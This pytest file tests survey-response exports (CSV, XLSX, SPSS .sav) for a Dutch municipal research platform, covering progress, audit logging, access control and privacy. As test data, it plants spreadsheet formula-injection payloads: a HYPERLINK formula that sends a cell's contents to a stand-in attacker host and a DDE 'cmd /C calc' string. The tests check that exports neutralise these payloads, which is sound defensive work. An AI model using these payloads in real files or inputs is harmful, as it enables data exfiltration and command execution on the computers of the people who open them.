"""Exports: CSV, XLSX and SPSS .sav (read back with pyreadstat), progress, audit, privacy."""

from __future__ import annotations

import copy
import csv
import io
import struct
from datetime import date, timedelta
from pathlib import Path

import numpy as np
import pyreadstat
import pytest
from django.utils import timezone
from openpyxl import load_workbook

from burgerlink.core.exports import jobs
from burgerlink.core.exports.sav import SYSMIS, SavVariable, SavWriter, spss_date
from burgerlink.core.models import AuditEvent, Export, ExportStatus, Organisation, User
from burgerlink.core.permissions import Perm, has_perm
from burgerlink.surveys.models import Answer, QuestionnaireVersion, Response, Wave
from burgerlink.surveys.results import dataset, exports
from tests.conftest import client_for

BASE = "/medewerkers/amstelstad/onderzoek/resultaten/"


def request(client_user: User, wave: Wave, file_format: str) -> Export:
    response = client_for(client_user).post(
        f"{BASE}{wave.pk}/exporteren/", {"formaat": file_format}
    )
    assert response.status_code == 302
    return Export.objects.filter(subject=str(wave.pk), file_format=file_format).latest("id")


def new_export(wave: Wave, file_format: str, **extra: object) -> Export:
    """A queued export of the wave's responses, made without the page."""
    return Export.objects.create(
        organisation=wave.organisation,
        kind=exports.RESPONSES,
        subject=str(wave.pk),
        file_format=file_format,
        rows_total=3,
        **extra,
    )


def download(user: User, export: Export) -> bytes:
    response = client_for(user).get(f"{BASE}exports/{export.pk}/download/")
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"  # response-level data: never cached
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def secrets_of(wave: Wave) -> list[str]:
    """Everything that identifies people and must never be in an export."""
    values = []
    for invitee in wave.invitees.all():
        values += [invitee.token, invitee.email, *invitee.postal_address.splitlines()]
    return [value for value in values if value]


def test_a_csv_export_runs_in_the_background_and_is_audited(
    small_wave: Wave, bram_researcher: User
) -> None:
    export = request(bram_researcher, small_wave, "csv")
    assert export.status == ExportStatus.DONE
    assert export.rows_total == 3
    assert export.rows_done == 3
    assert export.finished_at is not None
    assert export.file.name.startswith(f"exports/{small_wave.organisation_id}/")
    data = download(bram_researcher, export).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    assert [row["RESPONDENT"] for row in rows] == ["1", "2", "3"]
    first = rows[0]
    completed = timezone.localtime(small_wave.closes_at - timedelta(days=3)).date()
    assert first["COMPLETED"] == completed.isoformat()  # the day only
    assert first["CHANNEL"] == "1"
    assert first["OVERALL"] == "8"
    assert first["CLEAR"] == "99"  # stored as answered: not applicable
    assert first["WEEKS"] == "98.0"  # a number, not a don't-know code
    assert first["CHANNELS"] == "1;3"
    assert first["CHANNELS_1"] == "1" and first["CHANNELS_2"] == "0" and first["CHANNELS_3"] == "1"
    assert first["VISIT_DATE"] == "2026-03-31"
    assert first["OPEN_GOOD"] == "Vriendelijke medewerker aan de balie."
    assert first["sample_age_group"] == "young"
    assert rows[1]["CHANNELS_1"] == ""  # not answered
    for secret in secrets_of(small_wave):
        assert secret not in data
    actions = list(
        AuditEvent.objects.filter(organisation=small_wave.organisation)
        .filter(action__startswith="survey.export")
        .values_list("action", flat=True)
    )
    assert "survey.export.request" in actions
    assert "survey.export.download" in actions


def test_an_xlsx_export_streams_rows_and_a_codebook(
    small_wave: Wave, bram_researcher: User
) -> None:
    export = request(bram_researcher, small_wave, "xlsx")
    assert export.status == ExportStatus.DONE
    book = load_workbook(io.BytesIO(download(bram_researcher, export)), read_only=True)
    sheet = book["Antwoorden"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    header = rows[0]
    assert header[:5] == ["RESPONDENT", "COMPLETED", "CHANNEL", "LANGUAGE", "WEIGHT"]
    first = dict(zip(header, rows[1], strict=True))
    assert first["OVERALL"] == 8
    assert first["OPEN_GOOD"] == "Vriendelijke medewerker aan de balie."
    codebook = [list(row) for row in book["Variabelen"].iter_rows(values_only=True)]
    overall = next(row for row in codebook if row[0] == "OVERALL")
    assert "98 = Weet niet" in overall[2]
    text = "\n".join(str(cell) for row in rows for cell in row)
    for secret in secrets_of(small_wave):
        assert secret not in text


def test_a_sav_export_reads_back_with_variable_and_value_labels(
    small_wave: Wave, bram_researcher: User, tmp_path: Path
) -> None:
    export = request(bram_researcher, small_wave, "sav")
    assert export.status == ExportStatus.DONE
    path = tmp_path / "export.sav"
    path.write_bytes(download(bram_researcher, export))
    frame, meta = pyreadstat.read_sav(str(path), user_missing=True)
    assert meta.number_rows == 3
    labels = dict(zip(meta.column_names, meta.column_labels, strict=True))
    assert labels["OVERALL"] == "Welk cijfer geeft u de overheid?"
    assert labels["SPEED"] == "Snelheid"
    assert labels["RESPONDENT"] == "Volgnummer van de respons"
    value_labels = meta.variable_value_labels
    assert value_labels["OVERALL"][98.0] == "Weet niet"
    assert value_labels["BSC_1"][1.0] == "Goed"
    assert value_labels["CLEAR"][99.0] == "Niet van toepassing"
    assert value_labels["CHANNEL"][1.0] == "webvragenlijst"
    assert frame["OVERALL"].tolist()[0] == 8.0
    assert frame["OVERALL"].tolist()[1] == 98.0  # user-missing, kept with user_missing=True
    assert frame["WEEKS"].tolist()[0] == 98.0
    assert frame["OPEN_GOOD"].tolist()[0] == "Vriendelijke medewerker aan de balie."
    assert frame["VISIT_DATE"].tolist()[0] == date(2026, 3, 31)
    assert frame["CHANNELS_3"].tolist()[0] == 1.0
    assert meta.variable_measure["OVERALL"] == "ordinal"
    without_missing, _meta = pyreadstat.read_sav(str(path))
    assert np.isnan(without_missing["OVERALL"].tolist()[1])  # 98 declared user-missing
    data = path.read_bytes()
    for secret in secrets_of(small_wave):
        assert secret.encode() not in data


def test_weights_are_exported(life_event_wave: Wave, bram_researcher: User, tmp_path: Path) -> None:
    export = request(bram_researcher, life_event_wave, "sav")
    path = tmp_path / "export.sav"
    path.write_bytes(download(bram_researcher, export))
    frame, meta = pyreadstat.read_sav(str(path))
    assert meta.number_rows == 400
    weights = np.array(frame["WEIGHT"].tolist())
    assert weights.min() > 0
    assert weights.mean() == pytest.approx(1.0, abs=1e-6)
    assert weights.std() > 0.05  # raked to the population: not all equal
    analysis = dataset.wave_analysis(life_event_wave)
    assert analysis.weights.weights is not None
    assert np.allclose(weights, analysis.weights.weights)
    assert frame["RESPONDENT"].tolist() == list(map(float, range(1, 401)))


def test_progress_is_stored_chunk_by_chunk(small_wave: Wave, bram_researcher: User) -> None:
    export = new_export(small_wave, "csv")
    seen: list[int] = []
    plan = exports.plan_export(small_wave, dataset.wave_catalogue(small_wave))
    exports.write_export(
        plan,
        "csv",
        io.BytesIO(),
        progress=lambda done: seen.append(done),
        chunk=1,
    )
    assert seen == [1, 2, 3]
    jobs.run_export(export.pk)
    export.refresh_from_db()
    assert export.rows_done == 3
    assert export.status == ExportStatus.DONE
    assert jobs.run_export(export.pk) is None  # runs once


def test_the_page_shows_progress_and_the_download_link(
    small_wave: Wave, bram_researcher: User
) -> None:
    running = new_export(small_wave, "sav", status=ExportStatus.RUNNING, rows_done=2)
    done = request(bram_researcher, small_wave, "csv")
    html = client_for(bram_researcher).get(f"{BASE}{small_wave.pk}/").content.decode()
    assert "2 van 3 responsen" in html
    assert "<progress" in html
    assert "Voortgang vernieuwen" in html
    assert 'http-equiv="refresh"' not in html
    assert f"{BASE}exports/{done.pk}/download/" in html
    assert f"{BASE}exports/{running.pk}/download/" not in html


def test_a_failed_export_says_why(small_wave: Wave, monkeypatch: pytest.MonkeyPatch) -> None:
    export = new_export(small_wave, "csv")

    def broken(*_args: object, **_kwargs: object) -> int:
        raise RuntimeError("schijf vol")

    monkeypatch.setattr(jobs, "write_table", broken)
    result = jobs.run_export(export.pk)
    assert result is not None
    assert result.status == ExportStatus.FAILED
    assert result.error == "schijf vol"
    assert not result.file


def test_downloads_are_for_the_organisation_only(
    small_wave: Wave, bram_researcher: User, henk_heidedorp: User
) -> None:
    export = request(bram_researcher, small_wave, "csv")
    url = f"{BASE}exports/{export.pk}/download/"
    assert client_for(henk_heidedorp).get(url).status_code == 404
    other = f"/medewerkers/heidedorp/onderzoek/resultaten/exports/{export.pk}/download/"
    assert client_for(henk_heidedorp).get(other).status_code == 404


def test_an_export_of_an_empty_wave_is_refused(
    small_wave: Wave, bram_researcher: User, amstelstad: Organisation
) -> None:
    Response.objects.filter(wave=small_wave).delete()
    response = client_for(bram_researcher).post(
        f"{BASE}{small_wave.pk}/exporteren/", {"formaat": "csv"}, follow=True
    )
    assert "nog geen ingevulde vragenlijsten" in response.content.decode()
    assert not Export.objects.filter(subject=str(small_wave.pk)).exists()
    assert client_for(bram_researcher).get(f"{BASE}{small_wave.pk}/exporteren/").status_code == 405


# --- formulas, roles and the status that updates itself ---------------------------------------

HYPERLINK = '=HYPERLINK("https://kwaad.example/?d="&A2,"Klik hier")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def plant_formulas(wave: Wave) -> None:
    """Formulas in an open answer, a sample value and two question texts; a negative number."""
    version = QuestionnaireVersion.objects.get(pk=wave.version_id)
    definition = copy.deepcopy(version.definition)
    for question in definition["pages"][0]["questions"]:
        if question["code"] == "OPEN_GOOD":
            question["text"] = {"nl": "=1+1 Wat ging goed?", "en": "=1+1 What went well?"}
        if question["code"] == "WEEKS":
            question["text"] = {"nl": "@SUM(A1:A9)", "en": "@SUM(A1:A9)"}
    QuestionnaireVersion.objects.filter(pk=version.pk).update(definition=definition)
    Answer.objects.filter(response__wave=wave, code="OPEN_GOOD").update(text=HYPERLINK)
    first = completed_responses(wave)[0]
    first.background = {**first.background, "wijk": AT_SUM}
    first.save(update_fields=["background"])
    Answer.objects.filter(response__wave=wave, code="WEEKS", number=2.5).update(number=-2.5)
    dataset.clear_cache()


def completed_responses(wave: Wave) -> list[Response]:
    return list(Response.objects.filter(wave=wave, status="completed").order_by("id"))


def test_csv_export_neutralises_formulas_in_answers_and_samples(
    small_wave: Wave, bram_researcher: User
) -> None:
    plant_formulas(small_wave)
    export = request(bram_researcher, small_wave, "csv")
    assert export.status == ExportStatus.DONE, export.error
    data = download(bram_researcher, export).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    assert rows[0]["OPEN_GOOD"] == "'" + HYPERLINK
    assert rows[0]["sample_wijk"] == "'" + AT_SUM
    assert rows[2]["WEEKS"] == "-2.5"  # a number stays a number, minus sign and all
    assert not any(cell.startswith(("=", "@", "+")) for row in rows for cell in row.values())


def test_xlsx_export_neutralises_formulas_in_answers_and_question_texts(
    small_wave: Wave, bram_researcher: User
) -> None:
    plant_formulas(small_wave)
    export = request(bram_researcher, small_wave, "xlsx")
    assert export.status == ExportStatus.DONE, export.error
    book = load_workbook(io.BytesIO(download(bram_researcher, export)))
    sheet = book["Antwoorden"]
    header = [cell.value for cell in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert first["OPEN_GOOD"].value == "'" + HYPERLINK
    assert first["OPEN_GOOD"].data_type == "s"
    assert first["sample_wijk"].value == "'" + AT_SUM
    third = {name: cell.value for name, cell in zip(header, sheet[4], strict=True)}
    assert third["WEEKS"] == -2.5
    labels = {row[0]: row[1] for row in book["Variabelen"].iter_rows(values_only=True)}
    assert labels["OPEN_GOOD"] == "'=1+1 Wat ging goed?"
    assert labels["WEEKS"] == "'@SUM(A1:A9)"
    for worksheet in book.worksheets:
        assert not any(cell.data_type == "f" for row in worksheet.iter_rows() for cell in row)


def test_communications_see_aggregates_but_get_no_response_level_exports(
    small_wave: Wave, bram_researcher: User, carla_comms: User, amstelstad: Organisation
) -> None:
    assert not has_perm(carla_comms, Perm.EXPORT_SURVEY_RESPONSES, amstelstad)
    assert has_perm(carla_comms, Perm.VIEW_SURVEY_RESULTS, amstelstad)
    client = client_for(carla_comms)
    page = client.get(f"{BASE}{small_wave.pk}/")
    assert page.status_code == 200  # the aggregated results
    html = page.content.decode()
    assert "Export maken" not in html and "/exporteren/" not in html and "htmx" not in html
    assert client.post(f"{BASE}{small_wave.pk}/exporteren/", {"formaat": "csv"}).status_code == 403
    assert client.get(f"{BASE}{small_wave.pk}/exports/").status_code == 403
    export = request(bram_researcher, small_wave, "csv")
    assert client.get(f"{BASE}exports/{export.pk}/download/").status_code == 403
    assert Export.objects.count() == 1
    assert not AuditEvent.objects.filter(actor=carla_comms, action__startswith="survey.export")


def test_the_export_status_updates_itself_while_an_export_runs(
    small_wave: Wave, bram_researcher: User
) -> None:
    running = new_export(small_wave, "sav", status=ExportStatus.RUNNING, rows_done=2)
    client = client_for(bram_researcher)
    html = client.get(f"{BASE}{small_wave.pk}/").content.decode()
    status_url = f"{BASE}{small_wave.pk}/exports/"
    assert f'hx-get="{status_url}"' in html and 'hx-trigger="every 2s"' in html
    assert '<script src="/static/vendor/htmx/htmx.min.js" defer></script>' in html
    fragment = client.get(status_url)
    assert fragment.status_code == 200
    assert fragment["Cache-Control"] == "no-store"
    body = fragment.content.decode()
    assert body.lstrip().startswith('<div id="export-status"')  # only the list, for htmx
    assert "2 van 3 responsen" in body and f'hx-get="{status_url}"' in body
    Export.objects.filter(pk=running.pk).update(status=ExportStatus.FAILED, error="schijf vol")
    body = client.get(status_url).content.decode()
    assert "hx-get" not in body  # nothing runs any more: the page stops asking
    assert "Mislukt: schijf vol" in body


# --- the .sav writer on its own ---------------------------------------------------------------


def test_the_sav_writer_streams_chunks_with_long_strings_and_dates(tmp_path: Path) -> None:
    variables = [
        SavVariable("NR", "Nummer", measure="scale"),
        SavVariable(
            "GRADE", "Cijfer", value_labels=((1.0, "slecht"), (98.0, "Weet niet")), missing=(98.0,)
        ),
        SavVariable("DAY", "Dag", format="DATE"),
        SavVariable("long_name_for_a_text_variable", "Tekst", width=700),
        SavVariable("SHORTTXT", "Kort", width=3),
    ]
    path = tmp_path / "stream.sav"
    with path.open("wb") as stream:
        writer = SavWriter(stream, variables, file_label="proef")
        for start in range(0, 25, 10):
            rows = range(start, min(start + 10, 25))
            writer.write_chunk(
                [
                    np.array([float(i) for i in rows]),
                    np.array([np.nan if i % 5 == 0 else float(i % 10 + 1) for i in rows]),
                    np.array([spss_date(date(2026, 1, 1 + i)) for i in rows]),
                    ["é" * (i * 20) if i % 2 else None for i in rows],
                    ["abcdef" for _ in rows],
                ]
            )
        writer.close()
    frame, meta = pyreadstat.read_sav(str(path))
    assert meta.number_rows == 25
    assert meta.file_label == "proef"
    assert meta.column_names == ["NR", "GRADE", "DAY", "long_name_for_a_text_variable", "SHORTTXT"]
    assert frame["NR"].tolist() == list(map(float, range(25)))
    assert np.isnan(frame["GRADE"].tolist()[0])
    assert frame["DAY"].tolist()[3] == date(2026, 1, 4)
    texts = frame["long_name_for_a_text_variable"].tolist()
    assert texts[1] == "é" * 20
    assert texts[17] == "é" * 340  # 680 bytes: a very long string over three segments
    assert texts[0] == ""
    assert frame["SHORTTXT"].tolist()[0] == "abc"  # cut to the declared width


def test_the_sav_header_patches_the_case_count(tmp_path: Path) -> None:
    stream = io.BytesIO()
    writer = SavWriter(stream, [SavVariable("X")])
    writer.write_chunk([np.array([1.0, np.nan])])
    writer.close()
    data = stream.getvalue()
    assert data[:4] == b"$FL2"
    assert struct.unpack("<i", data[80:84])[0] == 2
    assert struct.unpack("<d", data[-8:])[0] == SYSMIS


def test_the_sav_writer_refuses_what_spss_cannot_hold() -> None:
    with pytest.raises(ValueError):
        SavVariable("TEXT", width=10, value_labels=((1.0, "x"),))
    with pytest.raises(ValueError):
        SavWriter(io.BytesIO(), [SavVariable("A"), SavVariable("a")])
